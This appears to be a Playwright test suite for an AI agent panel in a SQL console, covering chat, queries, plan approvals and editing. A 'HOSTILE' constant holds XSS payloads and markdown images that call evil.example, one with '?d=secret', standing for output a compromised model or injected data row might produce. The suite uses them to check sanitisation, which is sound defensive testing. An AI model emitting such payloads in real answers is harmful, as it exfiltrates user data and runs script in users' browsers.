import type { Page } from "@playwright/test";
import { expect, expectAccessible, test } from "./fixtures";

/* Tests the agent in the browser with the offline assistant: it queries the sample shop with the real tools. */

const panel = (page: Page) => page.getByRole("complementary", { name: "Agent" });
const field = (page: Page) => page.getByRole("textbox", { name: "Message the agent" });

/** Opens the console page, where the agent's panel is open by default. */
async function open(page: Page, slug: string): Promise<void> {
  await page.goto(`/w/${slug}`);
  await field(page).click();
}

async function ask(page: Page, text: string): Promise<void> {
  await field(page).fill(text);
  await page.keyboard.press("Enter");
  await expect(panel(page).locator(".me").last()).toContainText(text);
  await expect(panel(page).getByRole("button", { name: "Helpful", exact: true }).last()).toBeVisible({
    timeout: 30_000,
  });
}

/** Answers the next turn with these chunks of the ai SDK, as a model would. */
async function answerWith(page: Page, chunks: object[]): Promise<void> {
  await page.route("**/api/agent/chat", (route) => {
    const body = [...chunks.map((chunk) => JSON.stringify(chunk)), "[DONE]"]
      .map((line) => `data: ${line}\n\n`)
      .join("");
    return route.fulfill({
      status: 200,
      headers: { "content-type": "text/event-stream", "x-vercel-ai-ui-message-stream": "v1" },
      body,
    });
  });
}

function said(text: string): object[] {
  return [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    { type: "text-start", id: "1" },
    { type: "text-delta", id: "1", delta: text },
    { type: "text-end", id: "1" },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ];
}

test("answers a question with a visible query, and keeps the chat over a reload", async ({ page, person }) => {
  await open(page, person.slug);
  await expectAccessible(page);
  await ask(page, "How many orders are there?");
  const card = panel(page).getByRole("button", { name: /Ran query/ });
  await expect(card).toBeVisible();
  await expect(panel(page).locator(".sqls")).toContainText(/select/i);
  await expect(panel(page).getByRole("region", { name: "First rows" })).toContainText("100,000");
  await expectAccessible(page);
  await page.reload();
  await expect(panel(page).locator(".me")).toBeVisible();
  await expect(panel(page).getByRole("button", { name: /Ran query/ })).toBeVisible();
  await panel(page).getByRole("button", { name: "Open in console" }).click();
  await expect(page.locator(".cm-content").first()).toContainText(/select/i);
  // A name with two meanings is asked back, and a choice sends the refined question.
  await ask(page, "total revenue");
  const choices = panel(page).getByRole("list", { name: "Choices" }).getByRole("button");
  await expect(choices).toHaveText(["daily_revenue.revenue", "product_sales.revenue"]);
  await expectAccessible(page);
  await choices.last().focus();
  await page.keyboard.press("Enter");
  await expect(panel(page).locator(".me").last()).toContainText("“revenue” means product_sales.revenue");
  await expect(panel(page).locator(".sqls").last()).toContainText("from product_sales", { timeout: 30_000 });
  await expect(choices).toHaveCount(0);
  await expect(field(page)).toBeFocused();
  // The field sends nothing before the answer is complete.
  await expect(panel(page).getByRole("button", { name: "Stop", exact: true })).toHaveCount(0);
  // A question that is not understood for certain opens in the builder.
  await ask(page, "top 3 customers by revenue in 2025");
  await panel(page).getByRole("link", { name: "Change it in the question builder" }).click();
  await expect(page.locator(".question-view")).toContainText("orders");
  await expect(page.locator(".question-view")).toContainText("2025-01-01");
});

test("opens beside consoles and flows by default, stays closed once closed, and keeps its width", async ({
  page,
  person,
  consolePage,
}) => {
  await page.goto(`/w/${person.slug}`);
  // The focus stays in the work.
  await expect(field(page)).toBeVisible();
  await expect(consolePage.editor).toBeFocused();
  const edge = page.getByRole("separator", { name: "Resize agent" });
  await edge.press("ArrowLeft");
  await expect(edge).toHaveAttribute("aria-valuenow", "396");
  await page.reload();
  await expect(edge).toHaveAttribute("aria-valuenow", "396");
  const agentButton = page.getByRole("button", { name: "Agent", exact: true });
  await page.getByRole("link", { name: "Flows", exact: true }).click();
  await expect(page).toHaveURL(/\/flows$/);
  await expect(panel(page)).toBeVisible();
  await page.getByRole("link", { name: "Connections", exact: true }).click();
  await expect(page).toHaveURL(/\/connections$/);
  await expect(panel(page)).toHaveCount(0);
  await agentButton.click();
  await expect(field(page)).toBeFocused();
  await page.getByRole("link", { name: "Consoles", exact: true }).click();
  await expect(consolePage.editor).toBeVisible();
  await page.keyboard.press("ControlOrMeta+j");
  await expect(panel(page)).toHaveCount(0);
  await page.reload();
  await expect(consolePage.editor).toBeVisible();
  await expect(agentButton).toHaveAttribute("aria-expanded", "false");
  await page.keyboard.press("ControlOrMeta+j");
  await expect(field(page)).toBeFocused();
});

test("stays closed on a narrow page, opens as an overlay, and does not affect a wide page", { tag: "@long" }, async ({
  page,
  person,
  consolePage,
}) => {
  await page.setViewportSize({ width: 1100, height: 800 });
  await page.goto(`/w/${person.slug}`);
  await expect(consolePage.editor).toBeVisible();
  await expect(panel(page)).toHaveCount(0);
  await page.getByRole("button", { name: "Agent", exact: true }).click();
  await expect(field(page)).toBeFocused();
  await page.getByRole("button", { name: "Hide agent" }).click();
  await expect(panel(page)).toHaveCount(0);
  await page.setViewportSize({ width: 1440, height: 900 });
  await expect(panel(page)).toBeVisible();
});

test("opens the list of chats from a URL on any page", { tag: "@long" }, async ({ page, person }) => {
  await page.goto(`/w/${person.slug}/connections?chats=`);
  await expect(panel(page).getByRole("searchbox", { name: "Search chats" })).toBeVisible();
});

test("opens after a lost connection and keeps the typed text", async ({ page, context, person, consolePage }) => {
  await page.goto(`/w/${person.slug}`);
  // The agent's script loads in a quiet moment after the page.
  await expect(page.locator("html[data-agent-loaded]")).toBeAttached();
  // The rest of the page loads its scripts separately.
  await expect(consolePage.editor).toBeFocused();
  await context.setOffline(true);
  // With its key: a pointer over the button would load the tooltip's script.
  await page.keyboard.press("ControlOrMeta+j");
  await expect(panel(page)).toHaveCount(0);
  await page.keyboard.press("ControlOrMeta+j");
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await expect(
    panel(page)
      .getByText(/Check your network|You are offline/)
      .first(),
  ).toBeVisible();
  await context.setOffline(false);
});

/** Content that a hostile model, or a row that it repeats, may put into an answer. */
const HOSTILE = [
  "![x](https://evil.example/?d=secret) and [Our docs](https://evil.example/docs)",
  "[run](javascript:alert(1)) [run](JaVaScRiPt:alert(1)) [run](data:text/html,<script>alert(1)</script>) [run](vbscript:x)",
  "<javascript:alert(1)> [near](//evil.example/near) [here](/api/auth/logout) [ref][r] ![ref][i]",
  '<img src="https://evil.example/2.png" onerror="alert(1)"> <a href="https://evil.example/3">press</a> <script>alert(1)</script>',
  '<iframe src="https://evil.example/4"></iframe> <svg onload="alert(1)"><image href="https://evil.example/5.png"/></svg>',
  '<style>@import url("https://evil.example/6.css"); body { background: url(https://evil.example/7.png) }</style>',
  "| a | b |\n| - | - |\n| ![t](https://evil.example/8.png) | <img src=https://evil.example/9.png> |",
  "- item\n  - ![l](https://evil.example/10.png)\n\n> ![q](https://evil.example/11.png)",
  "[r]: javascript:alert(1)\n[i]: https://evil.example/12.png",
].join("\n\n");

test("shows a link's host, and passes no image, markup or script to the browser (T65)", async ({ page, person }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", () => asked.push("a script of the answer has run"));
  const query = "select '<img src=https://evil.example/13.png>' as x";
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    { type: "text-start", id: "1" },
    { type: "text-delta", id: "1", delta: HOSTILE },
    { type: "text-end", id: "1" },
    { type: "tool-input-available", toolCallId: "q", toolName: "run_query", input: { query } },
    {
      type: "tool-output-available",
      toolCallId: "q",
      output: {
        executionId: "e",
        fields: [{ name: "<img src=https://evil.example/14.png>", type: "string" }],
        rows: [{ "<img src=https://evil.example/14.png>": "<img src=https://evil.example/15.png>" }],
        rowCount: 1,
        truncated: false,
        durationMs: 3,
      },
    },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ]);
  await open(page, person.slug);
  await ask(page, "Say something");
  const answer = panel(page).locator(".answer");
  await expect(answer.getByRole("link", { name: "Our docs" })).toHaveAttribute("rel", /noreferrer/);
  await expect(answer).toContainText("(evil.example)");
  // No other address is a web address.
  await expect(answer.getByRole("link")).toHaveCount(1);
  await expect(answer.locator("img, script, iframe, style, image, object, embed, form")).toHaveCount(0);
  expect(asked.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
});

declare global {
  interface Window {
    /** Passes the next chunk of the answer to the page. */
    sayNext: (chunk: object | null) => void;
  }
}

test("streams an answer without flicker, and closes open Markdown for display", { tag: "@long" }, async ({
  page,
  person,
}) => {
  await page.addInitScript(() => {
    const real = window.fetch;
    window.fetch = async (input, init) => {
      if (!String(input instanceof Request ? input.url : input).endsWith("/api/agent/chat")) return real(input, init);
      const body = new ReadableStream({
        start(controller) {
          const encoder = new TextEncoder();
          window.sayNext = (chunk) => {
            controller.enqueue(encoder.encode(`data: ${chunk === null ? "[DONE]" : JSON.stringify(chunk)}\n\n`));
            if (chunk === null) controller.close();
          };
        },
      });
      return new Response(body, { headers: { "content-type": "text/event-stream" } });
    };
  });
  const say = (...chunks: (object | null)[]) =>
    page.evaluate((all) => {
      for (const chunk of all) window.sayNext(chunk);
    }, chunks);
  const grow = (delta: string) => say({ type: "text-delta", id: "1", delta });
  await open(page, person.slug);
  await field(page).fill("Say something long");
  await page.keyboard.press("Enter");
  await expect(panel(page).getByRole("status", { name: "Thinking", exact: true })).toBeVisible();
  await say({ type: "start", messageId: "0123456789abcdef01234567" }, { type: "start-step" });
  await say({ type: "text-start", id: "1" });
  await grow("The first paragraph is **bo");
  const answer = panel(page).locator(".answer");
  await expect(answer.locator("strong")).toHaveText("bo");
  await expect(answer).not.toContainText("*");
  // Marked, to identify the same element later.
  await answer
    .locator("p")
    .first()
    .evaluate((element) => element.setAttribute("data-seen", ""));
  await grow("ld**.\n\nThen `co");
  await expect(answer.locator("code")).toHaveText("co");
  await grow("de` and [a li");
  await expect(answer).not.toContainText("[");
  await grow("nk](https://example.com/a).\n\n| a | b |\n| - | - |\n| 1 | 2");
  await expect(answer.locator("table")).toContainText("2");
  await answer.locator("table").evaluate((element) => element.setAttribute("data-seen", ""));
  await grow(" |\n| 3 | 4 |\n\n```sql\nselect 1");
  await expect(answer.locator("pre")).toContainText("select 1");
  await expect(answer).not.toContainText("```");
  await grow("\n```\n\nDone.");
  await say({ type: "text-end", id: "1" }, { type: "finish-step" }, { type: "finish", finishReason: "stop" }, null);
  await expect(answer).toContainText("Done.");
  await expect(answer.locator("p").first()).toHaveAttribute("data-seen", "");
  await expect(answer.locator("table")).toHaveAttribute("data-seen", "");
  await expect(answer.getByRole("link", { name: "a link" })).toHaveAttribute("href", "https://example.com/a");
});

test("says what to do after a failure in the stream, and retries", async ({ page, person }) => {
  // The record does not know this answer, so it is requested again and not replaced there.
  await answerWith(page, [
    { type: "start", messageId: "told-by-nobody" },
    { type: "error", errorText: "The model provider is overloaded. Try again later." },
    { type: "finish", finishReason: "error" },
  ]);
  await open(page, person.slug);
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await expect(panel(page).getByRole("alert")).toContainText("Try again later.");
  await page.unroute("**/api/agent/chat");
  await panel(page).getByRole("button", { name: "Retry", exact: true }).click();
  await expect(panel(page).getByRole("button", { name: /Ran query/ })).toBeVisible({ timeout: 30_000 });
});

test("stops an answer, and resends an edited question", { tag: "@long" }, async ({ page, person }) => {
  // No answer, as from a model that thinks for long.
  await page.route("**/api/agent/chat", () => {});
  await open(page, person.slug);
  await field(page).fill("How many orders are there?");
  await page.keyboard.press("Enter");
  await panel(page).getByRole("button", { name: "Stop" }).click();
  await expect(panel(page).getByRole("button", { name: "Send", exact: true })).toBeVisible();
  await page.unroute("**/api/agent/chat");
  await panel(page).getByRole("button", { name: "Edit and resend" }).click();
  await expect(field(page)).toHaveValue("How many orders are there?");
  await ask(page, "How many customers are there?");
  await expect(panel(page).getByRole("button", { name: /Ran query/ })).toBeVisible();
});

test("replaces a message and everything after it with an edited one, also in storage", { tag: "@long" }, async ({
  page,
  person,
}) => {
  await open(page, person.slug);
  await ask(page, "How many orders are there?");
  await ask(page, "How many customers are there?");
  const said = panel(page).locator(".me");
  await expect(said).toHaveCount(2);
  // The last one as soon as its answer has ended: reloading the record, which gives it another id, does not change it.
  await expect(panel(page).getByRole("button", { name: "Edit and resend" })).toHaveCount(2);
  await panel(page).getByRole("button", { name: "Edit and resend" }).last().click();
  await page.waitForLoadState("networkidle");
  await expect(panel(page).getByText("Editing a message.")).toBeVisible();
  await expect(panel(page).locator(".going-away")).toHaveCount(2);
  await page.keyboard.press("Escape");
  await panel(page).getByRole("button", { name: "Edit and resend" }).first().click();
  await expect(field(page)).toBeFocused();
  await expect(field(page)).toHaveValue("How many orders are there?");
  await expect(panel(page).getByText("Editing a message.")).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(field(page)).toHaveValue("");
  await panel(page).getByRole("button", { name: "Edit and resend" }).first().click();
  await ask(page, "How many products are there?");
  await expect(said).toHaveText(["How many products are there?"]);
  await page.reload();
  await expect(said).toHaveText(["How many products are there?"]);
  // Asking again replaces the answer, and the question appears once.
  const answered = page.waitForResponse((response) => response.url().endsWith("/api/agent/chat"));
  await panel(page).getByRole("button", { name: "Retry", exact: true }).click();
  await answered;
  await expect(panel(page).getByRole("log")).toHaveAttribute("aria-busy", "false");
  await expect(panel(page).getByRole("button", { name: "Retry", exact: true })).toBeVisible();
  await expect(said).toHaveCount(1);
  await page.reload();
  await expect(said).toHaveText(["How many products are there?"]);
  await expect(panel(page).locator(".answer")).toHaveCount(1);
});

test("opens the whole result of a query as a grid, sorted and read to its end", { tag: "@long" }, async ({
  page,
  person,
}) => {
  await open(page, person.slug);
  await ask(page, "List all customers");
  await panel(page).getByRole("button", { name: "View full result" }).click();
  const grid = page.getByRole("dialog", { name: "Full result" }).getByRole("grid");
  await expect(grid.getByRole("gridcell").first()).toBeVisible();
  const rows = Number(await grid.getAttribute("aria-rowcount"));
  expect(rows).toBeGreaterThan(200);
  await expectAccessible(page);
  await page.keyboard.press("Escape");
  await expect(page.getByRole("dialog")).toHaveCount(0);
});

test("includes an unsaved console's text, and fixes a failed query offline", async ({ page, person, consolePage }) => {
  await consolePage.open(person.slug);
  await consolePage.create();
  await expect(consolePage.tabs).toHaveText(["best-sellers.sql", "untitled.sql"]);
  await consolePage.write("select count(*) as n from ordrs");
  await consolePage.run.click();
  const sent = page.waitForRequest((request) => request.url().endsWith("/api/agent/chat"));
  await page.getByRole("button", { name: "Fix with agent" }).click();
  const body = (await sent).postDataJSON();
  const [shown] = body.openConsoles;
  expect(shown).toMatchObject({ id: body.consoleId, content: "select count(*) as n from ordrs" });
  await expect(panel(page).getByText("Proposed edit")).toBeVisible({ timeout: 30_000 });
  await panel(page).getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select count(*) as n from orders");
  await consolePage.run.click();
  await expect(consolePage.cell(1, 1)).toHaveText("100,000");
});

test("draws a chart over the rows of a query", { tag: "@long" }, async ({ page, person }) => {
  const rows = [
    { week: "W45", extra: 9 },
    { week: "W46", extra: 41 },
  ];
  const fields = [
    { name: "week", type: "string" },
    { name: "extra", type: "int64" },
  ];
  const spec = {
    mark: "bar",
    encoding: { x: { field: "week", type: "nominal" }, y: { field: "extra", type: "quantitative" } },
  };
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    { type: "tool-input-available", toolCallId: "q", toolName: "run_query", input: { query: "select 1" } },
    {
      type: "tool-output-available",
      toolCallId: "q",
      output: { executionId: "e", fields, rows, rowCount: 2, truncated: false, durationMs: 3, resultId: "r" },
    },
    { type: "tool-input-available", toolCallId: "c", toolName: "create_chart", input: { title: "Extra", spec } },
    { type: "tool-output-available", toolCallId: "c", output: { chart: { title: "Extra", spec, resultId: "r" } } },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ]);
  await open(page, person.slug);
  await ask(page, "Draw it");
  const chart = panel(page).getByRole("img", { name: /^Bar chart of extra by week/ });
  await expect(chart.locator("svg.marks .role-mark path")).toHaveCount(2);
  await expectAccessible(page);
});

test("grants only part of a plan", async ({ page, person }) => {
  const agentSessionId = crypto.randomUUID();
  await answerWith(page, [
    { type: "start", messageId: "0123456789abcdef01234567" },
    { type: "start-step" },
    {
      type: "tool-input-available",
      toolCallId: "call",
      toolName: "propose_plan",
      input: { agentSessionId, planMarkdown: "1. Save the console", grants: ["console-write", "query-write"] },
    },
    {
      type: "tool-output-available",
      toolCallId: "call",
      output: { agentSessionId, status: "pending", grants: [], expiresAt: null, planMarkdown: null, decidedAt: null },
    },
    { type: "finish-step" },
    { type: "finish", finishReason: "stop" },
  ]);
  await open(page, person.slug);
  await ask(page, "Save it");
  await expect(panel(page).getByText("Plan awaiting approval")).toBeVisible();
  let sent: unknown = null;
  await page.route("**/api/agent/plan-decision", (route) => {
    sent = route.request().postDataJSON();
    return route.fulfill({
      json: { success: true, data: { agentSessionId, status: "approved", grants: ["console-write"], expiresAt: null } },
    });
  });
  await panel(page)
    .getByRole("checkbox", { name: /query-write/ })
    .uncheck();
  await panel(page).getByRole("button", { name: "Approve plan" }).click();
  await expect(panel(page).getByText("Plan approved")).toBeVisible();
  expect(sent).toEqual({ agentSessionId, decision: "approve", grants: ["console-write"] });
});

test("requests changes to a plan, or cancels it, and grants nothing", {
  tag: "@long",
}, async ({ page, person }) => {
  for (const [decision, press, ended] of [
    ["request_changes", "Request changes", "Changes requested"],
    ["cancel", "Cancel", "Plan cancelled"],
  ] as const) {
    const agentSessionId = crypto.randomUUID();
    const input = { agentSessionId, planMarkdown: "1. Save the console", grants: ["console-write"] };
    await answerWith(page, [
      { type: "start", messageId: "0123456789abcdef01234567" },
      { type: "start-step" },
      { type: "tool-input-available", toolCallId: "call", toolName: "propose_plan", input },
      {
        type: "tool-output-available",
        toolCallId: "call",
        output: { agentSessionId, status: "pending", grants: [], expiresAt: null, planMarkdown: null, decidedAt: null },
      },
      { type: "finish-step" },
      { type: "finish", finishReason: "stop" },
    ]);
    await open(page, person.slug);
    await ask(page, "Save it");
    const status = decision === "cancel" ? "cancelled" : "changes_requested";
    await page.route("**/api/agent/plan-decision", (route) =>
      route.fulfill({ json: { success: true, data: { agentSessionId, status, grants: [], expiresAt: null } } }),
    );
    const decided = page.waitForRequest("**/api/agent/plan-decision");
    await panel(page).getByRole("button", { name: press, exact: true }).click();
    if (decision === "request_changes") {
      await panel(page).getByRole("textbox", { name: "Requested changes" }).fill("Call it orders");
      await panel(page).getByRole("button", { name: "Send request" }).click();
    }
    const planMarkdown = decision === "cancel" ? {} : { planMarkdown: "Call it orders" };
    expect((await decided).postDataJSON()).toEqual({ agentSessionId, decision, ...planMarkdown });
    await expect(panel(page).getByText(ended)).toBeVisible();
    await expect(panel(page).getByText("No changes made.")).toBeVisible();
  }
});

test("proposes SQL as an edit of the open console, accepted and undone", async ({ page, person, consolePage }) => {
  await answerWith(page, said("Try this:\n\n```sql\nselect 42 as answer\n```"));
  await open(page, person.slug);
  await expect(consolePage.editor).toBeVisible();
  const before = (await consolePage.editor.textContent()) ?? "";
  await ask(page, "Write a query");
  await panel(page).getByRole("button", { name: "Insert into console" }).click();
  await panel(page).getByRole("button", { name: "Reject" }).click();
  await expect(panel(page).getByText("Edit rejected")).toBeVisible();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText(before);
  // The user can look at the proposal again after rejecting it.
  await panel(page).getByRole("button", { name: "Review again" }).click();
  await panel(page).getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select 42 as answer");
  await panel(page).getByRole("button", { name: "Undo" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText(before);
});

test("sends a failed query with its error to the agent", async ({ page, person, consolePage }) => {
  await page.goto(`/w/${person.slug}`);
  await consolePage.write("select nothing_here from orders");
  await consolePage.run.click();
  await answerWith(page, said("The column is called id.\n\n```sql\nselect id from orders\n```"));
  await page.getByRole("button", { name: "Fix with agent" }).click();
  const sent = panel(page).locator(".me");
  await expect(sent).toContainText("nothing_here");
  await expect(sent).toContainText("select nothing_here from orders");
  await expect(panel(page).getByText("The column is called id.")).toBeVisible();
  await expect(panel(page).getByText("Proposed edit")).toBeVisible();
  await panel(page).getByRole("button", { name: "Accept" }).click();
  await expect(page.locator(".editor-pane .cm-content")).toHaveText("select id from orders");
});

test("lists, finds, renames and deletes chats", { tag: "@long" }, async ({ page, person }) => {
  await open(page, person.slug);
  await ask(page, "How many orders are there?");
  await panel(page).getByRole("button", { name: "New chat" }).click();
  await ask(page, "How many customers are there?");
  await panel(page).getByRole("button", { name: "Chats", exact: true }).click();
  const rows = panel(page).locator(".chat-open");
  await expect(rows).toHaveCount(2);
  await expectAccessible(page);
  await page.getByRole("searchbox", { name: "Search chats" }).fill("customers");
  await expect(rows).toHaveCount(1);
  await rows.first().press("F2");
  await page.getByRole("textbox", { name: "Chat title" }).fill("Customers counted");
  await page.keyboard.press("Enter");
  await expect(rows).toContainText("Customers counted");
  await page.getByRole("button", { name: "Actions for Customers counted" }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await page.getByRole("button", { name: "Delete chat" }).click();
  await page.getByRole("button", { name: "Clear search" }).click();
  await expect(rows).toHaveCount(1);
  await expect(rows).toContainText("orders");
});

test("mentions a table with @, and stores a rating with its comment", { tag: "@long" }, async ({ page, person }) => {
  await open(page, person.slug);
  await field(page).pressSequentially("How many @custo");
  await page.getByRole("option", { name: /^customers/ }).click();
  await expect(field(page)).toHaveValue("How many @customers ");
  await field(page).pressSequentially("are there?");
  await page.keyboard.press("Enter");
  await expect(panel(page).locator(".me .mention")).toHaveText("customers");
  const thumb = panel(page).getByRole("button", { name: "Not helpful" });
  await thumb.click({ timeout: 30_000 });
  await page.getByRole("textbox", { name: "Feedback", exact: true }).fill("Wrong table");
  const kept = page.waitForResponse(
    (answer) => answer.url().endsWith("/feedback") && answer.request().postData()?.includes("Wrong table") === true,
  );
  await page.keyboard.press("Enter");
  expect((await kept).status()).toBe(200);
  await page.reload();
  await expect(panel(page).getByRole("button", { name: "Not helpful" })).toHaveAttribute("aria-pressed", "true");
});

test("mentions consoles and connections with @ by keyboard only", { tag: "@long" }, async ({ page, person }) => {
  await open(page, person.slug);
  await field(page).pressSequentially("Look at @best");
  await expect(page.getByRole("option", { name: /best-sellers/ })).toHaveAttribute("aria-selected", "true");
  await page.keyboard.press("Enter");
  await field(page).pressSequentially("in @Sample");
  await expect(page.getByRole("option", { name: /^Sample shop/ })).toBeVisible();
  await page.keyboard.press("Escape");
  await expect(page.getByRole("option")).toHaveCount(0);
  await field(page).pressSequentially(" sh");
  await page.keyboard.press("Backspace");
  await expect(field(page)).toHaveValue("Look at @best-sellers.sql in @Sample s");
  await field(page).fill("Look at @best-sellers.sql in @Samp");
  await page.keyboard.press("Tab");
  await expect(field(page)).toHaveValue('Look at @best-sellers.sql in @"Sample shop" ');
});

test("shows the agent as a separate view on a phone", { tag: "@long" }, async ({ page, person }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`/w/${person.slug}`);
  await page.getByRole("button", { name: "More", exact: true }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Agent" }).click();
  await ask(page, "How many orders are there?");
  await expectAccessible(page);
  await panel(page).getByRole("button", { name: "Hide agent" }).click();
  await expect(panel(page)).toHaveCount(0);
});
